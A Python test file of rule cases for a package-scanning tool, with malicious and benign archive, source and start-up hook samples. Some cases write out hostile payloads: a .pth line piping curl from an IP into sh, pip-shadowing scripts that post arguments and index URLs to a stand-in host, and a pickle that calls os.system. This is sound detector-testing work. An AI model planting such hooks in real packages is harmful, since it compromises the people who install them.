"""Cases for the archive, source and start-up structure rules (interlock.analysis.rules.structure).

For each rule, a release that must trigger it and the closest benign look-alike that must not.
How a case runs is in tests/rule_cases.py; the checks over every rule are in tests/test_rules.py.
"""

# ruff: noqa: E501 - the case tables are laid out by hand (`# fmt: skip`), a case to a block, sources as written

from __future__ import annotations

import io
import random
import stat
import tarfile
import warnings
import zipfile

from interlock.artifact.limits import Limits
from interlock.artifact.model import Artifact
from interlock.artifact.reader import read_artifact_bytes
from interlock.model.verdict import Verdict
from tests.builders import (
    NSPKG,
    findings_of,
    scan,
    scan_wheel,
    tar_artifact,
    tar_member,
    zip_artifact,
    zip_bytes,
)
from tests.rule_cases import C, H, I, L, M, Negative, Positive, S, W, case_tests

# -- sample material ----------------------------------------------------------------------------

BOMB_LIMITS = Limits(max_ratio=100, min_bomb_bytes=64 * 1024)


def _pkg_info() -> tuple[tarfile.TarInfo, bytes]:
    return tar_member("demo-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n")


def _zip_with_nul_name() -> Artifact:
    """zipfile refuses to write a NUL in a name; patch one into both headers afterwards."""
    data = zip_bytes([("pkg/__init__.py", b""), ("pkg/a.pyX.txt", b"x = 1\n")])
    assert data.count(b"pkg/a.pyX.txt") == 2  # local header and central directory
    return read_artifact_bytes("demo-1.0-py3-none-any.whl", data.replace(b"pkg/a.pyX.txt", b"pkg/a.py\x00.txt"))


def _zip_symlink() -> Artifact:
    link = zipfile.ZipInfo("pkg/key")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    return zip_artifact([("pkg/__init__.py", b""), (link, b"/home/user/.ssh/id_rsa")])


def _zip_duplicate(first: str, second: str) -> Artifact:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns about the duplicate name
        return zip_artifact([(first, b"VERSION = '1.0'\n"), (second, b"import os\nos.system('id')\n")])


def _bad_crc() -> Artifact:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("pkg/__init__.py", b"")
        archive.writestr("pkg/data.txt", b"HELLO-WORLD-PAYLOAD")
    damaged = buffer.getvalue().replace(b"HELLO-WORLD-PAYLOAD", b"HELLO-WORLD-PAYLOAX")
    return read_artifact_bytes("demo-1.0-py3-none-any.whl", damaged)


def _intact_stored_zip() -> Artifact:
    return zip_artifact(
        [("pkg/__init__.py", b""), ("pkg/data.txt", b"HELLO-WORLD-PAYLOAD")], compression=zipfile.ZIP_STORED
    )


def _nested(levels: int) -> Artifact:
    inner = zip_bytes([("deep.py", b"x = 1\n")])
    for index in range(levels - 1, 0, -1):
        inner = zip_bytes([(f"level{index + 1}.zip", inner)])
    return zip_artifact([("pkg/__init__.py", b""), ("pkg/level1.zip", inner)])


# -- positive cases -----------------------------------------------------------------------------

POSITIVE: dict[str, Positive] = {
    # archive structure -------------------------------------------------------------------------
    "archive-path-traversal/zip-dot-dot": Positive(
        "archive-path-traversal", H,
        lambda: zip_artifact([("pkg/__init__.py", b""), ("../evil.py", b"x = 1\n")]),
        "../evil.py", None, None,
    ),
    "archive-path-traversal/tar-dot-dot": Positive(
        "archive-path-traversal", H,
        lambda: tar_artifact([_pkg_info(), tar_member("demo-1.0/../../evil.py", b"x = 1\n")]),
        "demo-1.0/../../evil.py", None, None,
    ),
    "archive-path-traversal/zip-name-with-nul": Positive(
        "archive-path-traversal", H,
        lambda: _zip_with_nul_name(),
        "pkg/a.py\\x00.txt", None, None,
    ),
    "archive-absolute-path/zip": Positive(
        "archive-absolute-path", H,
        lambda: zip_artifact([("pkg/__init__.py", b""), ("/etc/profile.d/evil.sh", b"id\n")]),
        "/etc/profile.d/evil.sh", None, None,
    ),
    "archive-absolute-path/tar": Positive(
        "archive-absolute-path", H,
        lambda: tar_artifact([_pkg_info(), tar_member("/tmp/evil.py", b"x = 1\n")]),
        "/tmp/evil.py", None, None,
    ),
    "archive-absolute-path/windows-drive": Positive(
        "archive-absolute-path", H,
        lambda: zip_artifact([("pkg/__init__.py", b""), ("C:/Users/Public/evil.py", b"x = 1\n")]),
        "C:/Users/Public/evil.py", None, None,
    ),
    "archive-link/tar-symlink": Positive(
        "archive-link", M,
        lambda: tar_artifact([_pkg_info(), tar_member("demo-1.0/key", kind=tarfile.SYMTYPE, linkname="/home/user/.ssh/id_rsa")]),
        "demo-1.0/key", None, None,
    ),
    "archive-link/tar-hard-link": Positive(
        "archive-link", M,
        lambda: tar_artifact([_pkg_info(), tar_member("demo-1.0/copy", kind=tarfile.LNKTYPE, linkname="demo-1.0/PKG-INFO")]),
        "demo-1.0/copy", None, None,
    ),
    "archive-link/zip-symlink-mode": Positive("archive-link", M, _zip_symlink, "pkg/key", None, None),
    "archive-device/tar-character-device": Positive(
        "archive-device", H,
        lambda: tar_artifact([_pkg_info(), tar_member("demo-1.0/null", kind=tarfile.CHRTYPE)]),
        "demo-1.0/null", None, None,
    ),
    "archive-device/tar-fifo": Positive(
        "archive-device", H,
        lambda: tar_artifact([_pkg_info(), tar_member("demo-1.0/pipe", kind=tarfile.FIFOTYPE)]),
        "demo-1.0/pipe", None, None,
    ),
    "archive-duplicate-member/zip-same-path-twice": Positive(
        "archive-duplicate-member", M,
        lambda: _zip_duplicate("pkg/__init__.py", "pkg/__init__.py"),
        "pkg/__init__.py", None, None,
    ),
    "archive-compression-ratio/zeros": Positive(
        "archive-compression-ratio", H,
        lambda: zip_artifact([("pkg/__init__.py", b""), ("pkg/zeros.bin", bytes(1024 * 1024))], limits=BOMB_LIMITS),
        "pkg/zeros.bin", None, None,
    ),
    "archive-member-too-large/over-limit": Positive(
        "archive-member-too-large", M,
        lambda: zip_artifact([("pkg/__init__.py", b""), ("pkg/big.bin", bytes(5000))], limits=Limits(max_member_bytes=4096)),
        "pkg/big.bin", None, None,
    ),
    "archive-nesting-too-deep/three-levels": Positive(
        "archive-nesting-too-deep", L, lambda: _nested(3), "pkg/level1.zip!/level2.zip!/level3.zip", None, None
    ),
    "archive-unreadable-member/bad-crc": Positive("archive-unreadable-member", L, _bad_crc, "pkg/data.txt", None, None),
    "archive-disguised/python-zip-named-typed": Positive(
        "archive-disguised", H,
        lambda: zip_artifact([("pkg/__init__.py", b""), ("pkg/_ws.typed", zip_bytes([("hook.py", b"import os\n")]))]),
        "pkg/_ws.typed", None, None,
    ),
    "archive-disguised/program-zip-named-dat": Positive(
        "archive-disguised", M,
        lambda: zip_artifact([("pkg/__init__.py", b""), ("pkg/logo.dat", zip_bytes([("bin/agent.so", b"\x7fELF"), ("run.sh", b"./agent\n")]))]),
        "pkg/logo.dat", None, None,
    ),
    "archive-disguised/document-zip-is-only-noted": Positive(
        # langchain-community's sdist ships tests/examples/fake.vsdx: a Visio drawing is a zip.
        "archive-disguised", L,
        lambda: zip_artifact([("pkg/__init__.py", b""), ("tests/examples/fake.vsdx", zip_bytes([("[Content_Types].xml", b"<Types/>")]))]),
        "tests/examples/fake.vsdx", None, None,
    ),
    # odd sources -------------------------------------------------------------------------------
    "source-unparseable/python-2": Positive(
        "source-unparseable", L, W({"pkg/old.py": "x = 1\nprint 'hello'\n"}), "pkg/old.py", 2, None
    ),
    "source-unparseable/100000-open-parentheses": Positive(
        "source-unparseable", L, W({"pkg/deep.py": "x = " + "(" * 100_000 + "1" + ")" * 100_000 + "\n"}), "pkg/deep.py", 1, None
    ),
    "source-null-bytes/nul-in-source": Positive(
        "source-null-bytes", M, W({"pkg/mod.py": b"x = 1\n\x00\nimport os\n"}), "pkg/mod.py", 1, None
    ),
    "source-not-utf8/latin-1-without-cookie": Positive(
        "source-not-utf8", L, W({"pkg/mod.py": b"s = 'caf\xe9'\n"}), "pkg/mod.py", 1, None
    ),
    "source-too-deep/100000-unary-minus": Positive(
        "source-too-deep", M, W({"pkg/deep.py": "x = " + "-" * 100_000 + "1\n"}), "pkg/deep.py", 1, None
    ),
    "source-too-deep/3000-term-concatenation": Positive(
        "source-too-deep", M, W({"pkg/deep.py": "x = " + "'a' + " * 3000 + "'a'\n"}), "pkg/deep.py", 1, None
    ),
    "source-too-large/over-token-budget": Positive(
        "source-too-large", M, W({"pkg/table.py": "x = [" + "1," * 200_001 + "]\n"}), "pkg/table.py", 1, None
    ),
    "source-too-large/over-kept-size": Positive(
        "source-too-large", M,
        lambda: zip_artifact([("pkg/__init__.py", b""), ("pkg/big.py", b"x = 1\n" * 100)], limits=Limits(max_kept_bytes=100)),
        "pkg/big.py", 1, None,
    ),
    "source-not-judged/import-time-module-beyond-the-excerpt": Positive(
        "source-not-judged", H,
        lambda: zip_artifact(
            [("pkg/__init__.py", b""), ("pkg/big.py", b"x = 1\n" * 100)],
            limits=Limits(max_kept_bytes=100, max_excerpt_bytes=300),
        ),
        "pkg/big.py", 1, None,
    ),
    # start-up hooks, entry points, install hooks -----------------------------------------------
    "startup-pth-exec/pth-spawns-process": Positive(
        "startup-pth-exec", H, W({"demo_init.pth": "import os; os.system('id')\n"}), "demo_init.pth", 1, "startup"
    ),
    # A hook into the release's own module: that module is judged as start-up code.
    "startup-pth-exec/pth-imports-shipped-module": Positive(
        "startup-pth-exec", L,
        W({"demo_init.pth": "/opt/demo\nimport demo_hook\n", "demo_hook.py": "VALUE = 1\n"}),
        "demo_init.pth", 2, "startup",
    ),
    # coverage 7.13's subprocess hook: literal code, handed to exec, importing the release's own package.
    "startup-pth-exec/literal-exec-into-own-package": Positive(
        "startup-pth-exec", L,
        W({
            "a1_demo.pth": "import sys; exec('import os\\nif os.getenv(\"DEMO_START\"):\\n import demo\\n demo.start()')\n",
            "demo/__init__.py": "def start():\n    return None\n",
        }),
        "a1_demo.pth", 1, "startup",
    ),
    # A module this release does not ship: what runs is not here to judge.
    "startup-pth-exec/pth-imports-another-distribution": Positive(
        "startup-pth-exec", M,
        W({"demo_init.pth": "import other_hook; other_hook.install()\n", "demo/__init__.py": ""}),
        "demo_init.pth", 1, "startup",
    ),
    "startup-pth-exec/namespace-package-shape-is-info": Positive(
        "startup-pth-exec", I, W({"zope.interface-5.0-nspkg.pth": NSPKG + "\n"}), "zope.interface-5.0-nspkg.pth", 1, "startup"
    ),
    "startup-pth-exec/pth-in-wheel-purelib": Positive(
        "startup-pth-exec", H,
        W({"demo-1.0.data/purelib/demo.pth": "import os; os.system('id')\n"}),
        "demo-1.0.data/purelib/demo.pth", 1, "startup",
    ),
    "startup-sitecustomize/wheel-root": Positive(
        "startup-sitecustomize", H, W({"sitecustomize.py": "VALUE = 1\n"}), "sitecustomize.py", None, "startup"
    ),
    "startup-sitecustomize/usercustomize-in-purelib": Positive(
        "startup-sitecustomize", H,
        W({"demo-1.0.data/purelib/usercustomize.py": "VALUE = 1\n"}),
        "demo-1.0.data/purelib/usercustomize.py", None, "startup",
    ),
    "entrypoint-shadows-command/pip-in-another-project": Positive(
        "entrypoint-shadows-command", H,
        W({"evil/cli.py": "def main():\n    pass\n"}, name="evil", entry_points="[console_scripts]\npip = evil.cli:main\n"),
        "evil-1.0.dist-info/entry_points.txt", 2, None,
    ),
    "entrypoint-shadows-command/pip-that-posts-what-it-is-given": Positive(
        "entrypoint-shadows-command", C,
        W({"evil/cli.py": """
            import os
            import sys
            import requests

            def main():
                requests.post("https://telemetry.example.com/", json={"argv": sys.argv, "index": os.environ.get("PIP_INDEX_URL")})
                os.execvp("python3", ["python3", "-m", "pip", *sys.argv[1:]])
        """}, name="evil", entry_points="[console_scripts]\npip = evil.cli:main\n"),
        "evil-1.0.dist-info/entry_points.txt", 2, None,
    ),
    "entrypoint-shadows-command/versioned-pip-in-another-project": Positive(
        "entrypoint-shadows-command", H,
        W({"evil/cli.py": "def main():\n    pass\n"}, name="evil", entry_points="[console_scripts]\npip3.13 = evil.cli:main\n"),
        "evil-1.0.dist-info/entry_points.txt", 2, None,
    ),
    "entrypoint-shadows-command/script-file-installed-as-pip": Positive(
        "entrypoint-shadows-command", H,
        W({"demo-1.0.data/scripts/pip": "#!python\nimport sys\nprint(sys.argv)\n"}),
        "demo-1.0.data/scripts/pip", 1, None,
    ),
    "entrypoint-shadows-command/script-file-installed-as-pip-that-posts": Positive(
        "entrypoint-shadows-command", C,
        W({"demo-1.0.data/scripts/pip": "#!python\nimport sys\nimport urllib.request\nurllib.request.urlopen('https://t.example.com/', data=' '.join(sys.argv).encode())\n"}),
        "demo-1.0.data/scripts/pip", 1, None,
    ),
    "pickle-code/model-file-runs-a-command": Positive(
        "pickle-code", C,
        W({"pkg/__init__.py": "", "pkg/model.pkl": b"\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."}),
        "pkg/model.pkl", None, None,
    ),
    "entrypoint-shadows-command/python-in-setup-py": Positive(
        "entrypoint-shadows-command", H,
        S({"setup.py": """
            from setuptools import setup
            setup(
                name="demo",
                entry_points={"console_scripts": ["python = demo.shim:main"]},
            )
        """}),
        "setup.py", 4, None,
    ),
    "install-hook/cmdclass-install-override": Positive(
        "install-hook", L,
        S({"setup.py": """
            from setuptools import setup
            from setuptools.command.install import install

            class PostInstall(install):
                def run(self):
                    install.run(self)

            setup(name="demo", cmdclass={"install": PostInstall})
        """}),
        "setup.py", 4, "install",
    ),
}  # fmt: skip


# -- negative cases: the closest benign look-alikes ---------------------------------------------

NEGATIVE: dict[str, Negative] = {
    "archive-path-traversal/dots-inside-a-name": Negative(
        "archive-path-traversal", lambda: zip_artifact([("pkg/__init__.py", b""), ("pkg/a..b.py", b"x = 1\n")])
    ),
    "archive-absolute-path/ordinary-wheel": Negative("archive-absolute-path", W({"pkg/__init__.py": "x = 1\n"})),
    "archive-link/regular-tar-member": Negative(
        "archive-link", lambda: tar_artifact([_pkg_info(), tar_member("demo-1.0/key.txt", b"not a key\n")])
    ),
    "archive-device/regular-tar-member": Negative(
        "archive-device", lambda: tar_artifact([_pkg_info(), tar_member("demo-1.0/null.txt", b"")])
    ),
    "archive-duplicate-member/same-name-in-two-directories": Negative(
        "archive-duplicate-member", lambda: _zip_duplicate("pkg/__init__.py", "pkg/sub/__init__.py")
    ),
    "archive-compression-ratio/incompressible-data": Negative(
        "archive-compression-ratio",
        lambda: zip_artifact(
            [("pkg/__init__.py", b""), ("pkg/random.bin", random.Random(1).randbytes(1024 * 1024))], limits=BOMB_LIMITS
        ),
    ),
    "archive-compression-ratio/small-zeros-under-the-bomb-floor": Negative(
        "archive-compression-ratio",
        lambda: zip_artifact([("pkg/__init__.py", b""), ("pkg/zeros.bin", bytes(32 * 1024))], limits=BOMB_LIMITS),
    ),
    "archive-member-too-large/exactly-at-limit": Negative(
        "archive-member-too-large",
        lambda: zip_artifact([("pkg/__init__.py", b""), ("pkg/big.bin", bytes(4096))], limits=Limits(max_member_bytes=4096)),
    ),
    "archive-nesting-too-deep/one-nested-archive": Negative("archive-nesting-too-deep", lambda: _nested(1)),
    "archive-disguised/zip-based-formats-named-as-such": Negative(
        "archive-disguised",
        lambda: zip_artifact(
            [("pkg/__init__.py", b""), ("pkg/app.pyz", zip_bytes([("__main__.py", b"x = 1\n")])), ("pkg/table.xlsx", zip_bytes([("a.xml", b"<a/>")]))]
        ),
    ),
    # A TorchScript model saved under its own extension (`silero_vad.jit`): code/ is TorchScript.
    "archive-disguised/pytorch-saved-model": Negative(
        "archive-disguised",
        lambda: zip_artifact(
            [
                ("pkg/__init__.py", b""),
                (
                    "pkg/data/model.jit",
                    zip_bytes(
                        [
                            ("model/data.pkl", b"\x80\x02}q\x00."),
                            ("model/version", b"3\n"),
                            ("model/code/__torch__/model.py", b"class Model(Module):\n  pass\n"),
                        ]
                    ),
                ),
            ]
        ),
    ),
    "archive-unreadable-member/intact-stored-zip": Negative("archive-unreadable-member", _intact_stored_zip),
    "source-unparseable/valid-python-3": Negative("source-unparseable", W({"pkg/new.py": "print('hello')\n"})),
    "source-null-bytes/escaped-nul-in-a-literal": Negative("source-null-bytes", W({"pkg/mod.py": b"x = b'\\x00'\n"})),
    "source-not-utf8/latin-1-with-cookie": Negative(
        "source-not-utf8", W({"pkg/mod.py": b"# -*- coding: latin-1 -*-\ns = 'caf\xe9'\n"})
    ),
    "source-too-deep/fifty-parentheses": Negative(
        "source-too-deep", W({"pkg/mod.py": "x = " + "(" * 50 + "1" + ")" * 50 + "\n"})
    ),
    "source-too-large/ordinary-table": Negative("source-too-large", W({"pkg/table.py": "x = [" + "1," * 1000 + "]\n"})),
    "source-not-judged/test-module-beyond-the-excerpt": Negative(
        "source-not-judged",
        lambda: zip_artifact(
            [("pkg/__init__.py", b""), ("pkg/tests/test_big.py", b"x = 1\n" * 100)],
            limits=Limits(max_kept_bytes=100, max_excerpt_bytes=300),
        ),
    ),
    "source-not-judged/module-within-the-excerpt": Negative(
        "source-not-judged",
        lambda: zip_artifact(
            [("pkg/__init__.py", b""), ("pkg/big.py", b"x = 1\n" * 100)],
            limits=Limits(max_kept_bytes=100, max_excerpt_bytes=1000),
        ),
    ),
    "startup-pth-exec/path-only-pth": Negative("startup-pth-exec", W({"demo.pth": "/opt/demo/lib\n# import os\n"})),
    "startup-pth-exec/pth-inside-a-package": Negative("startup-pth-exec", W({"pkg/demo.pth": "import os; os.system('id')\n"})),
    "startup-pth-exec/indented-import-is-a-path": Negative("startup-pth-exec", W({"demo.pth": b" import os; os.system('id')\n"})),
    "startup-sitecustomize/inside-a-package": Negative("startup-sitecustomize", W({"pkg/sitecustomize.py": "VALUE = 1\n"})),
    "startup-sitecustomize/at-sdist-root": Negative("startup-sitecustomize", S({"sitecustomize.py": "VALUE = 1\n"})),
    "pickle-code/model-file-of-plain-data": Negative(
        "pickle-code",
        W({"pkg/__init__.py": "", "pkg/model.pkl": b"\x80\x02ccollections\nOrderedDict\nq\x00)Rq\x01."}),
    ),
    "entrypoint-shadows-command/pip-in-the-pip-project": Negative(
        "entrypoint-shadows-command",
        W({"pip/_internal/cli.py": "def main():\n    pass\n"}, name="pip", entry_points="[console_scripts]\npip = pip._internal.cli:main\n"),
    ),
    "entrypoint-shadows-command/pip-project-versioned-commands-that-reach-the-network": Negative(
        "entrypoint-shadows-command",
        W({"pip/_internal/cli/main.py": """
            import urllib.request

            def main():
                return urllib.request.urlopen("https://index.example/simple/").status
        """}, name="pip", entry_points="[console_scripts]\npip = pip._internal.cli.main:main\n"
           "pip3 = pip._internal.cli.main:main\npip3.13 = pip._internal.cli.main:main\n"),
    ),
    "entrypoint-shadows-command/own-command-name": Negative(
        "entrypoint-shadows-command",
        W({"demo/cli.py": "def main():\n    pass\n"}, entry_points="[console_scripts]\ndemo = demo.cli:main\npipx-demo = demo.cli:main\n"),
    ),
    "install-hook/custom-non-install-command": Negative(
        "install-hook",
        S({"setup.py": """
            from setuptools import Command, setup

            class Clean(Command):
                user_options = []
                def run(self):
                    pass

            setup(name="demo", cmdclass={"clean": Clean})
        """}),
    ),
}  # fmt: skip


# -- the tests ----------------------------------------------------------------------------------

test_positive, test_negative, test_positive_severity_is_one_the_rule_declares = case_tests(POSITIVE, NEGATIVE)


# -- pairs the design singles out ---------------------------------------------------------------


def test_namespace_package_pth_is_info_and_the_same_line_with_a_payload_is_malicious() -> None:
    benign = scan_wheel({"zope.interface-5.0-nspkg.pth": NSPKG + "\n"})
    assert [(f.rule, f.severity) for f in benign.findings] == [("startup-pth-exec", I)]
    assert "namespace-package" in benign.findings[0].message
    assert benign.verdict is Verdict.CLEAN

    hostile = scan_wheel(
        {"zope.interface-5.0-nspkg.pth": NSPKG + "; import os; os.system('curl -s http://198.51.100.7/p | sh')\n"}
    )
    pth = findings_of(hostile, "startup-pth-exec")
    assert [(f.severity, f.line) for f in pth] == [(H, 1)]
    assert (C, 1) in [(f.severity, f.line) for f in findings_of(hostile, "process-spawn")]
    assert hostile.verdict is Verdict.MALICIOUS


def test_pth_importing_a_shipped_module_analyses_that_module_as_startup_code() -> None:
    result = scan_wheel(
        {"litellm_init.pth": "import litellm_hook\n", "litellm_hook.py": "import os\nos.system('id')\n"}
    )
    assert [(f.severity, f.when) for f in findings_of(result, "process-spawn") if f.path == "litellm_hook.py"] == [
        (C, "startup")
    ]
    assert result.verdict is Verdict.MALICIOUS


def test_duplicate_member_analyses_the_copy_that_is_installed() -> None:
    result = scan(_zip_duplicate("pkg/__init__.py", "pkg/__init__.py"))
    assert [(f.path, f.line, f.severity) for f in findings_of(result, "process-spawn")] == [("pkg/__init__.py", 2, L)]
